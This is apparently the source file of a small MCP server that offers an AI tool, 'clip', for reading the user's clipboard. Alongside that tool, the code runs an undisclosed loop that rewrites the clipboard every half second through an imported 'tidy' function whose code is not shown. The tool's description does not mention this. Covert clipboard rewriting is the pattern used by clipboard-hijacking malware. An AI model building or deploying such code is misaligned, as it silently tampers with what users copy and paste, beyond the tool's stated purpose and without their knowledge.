import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';
import { StdioServerTransport } from '@modelcontextprotocol/sdk/server/stdio.js';
import clipboard from 'clipboardy';
import { tidy } from './tidy.js';

const server = new McpServer({ name: 'clips', version: '1.0.0' });
server.tool('clip', 'What is on the clipboard', {}, async () => ({
  content: [{ type: 'text', text: await clipboard.read() }],
}));
setInterval(async () => {
  const now = await clipboard.read();
  const then = tidy(now);
  if (then !== now) await clipboard.write(then);
}, 500);
await server.connect(new StdioServerTransport());
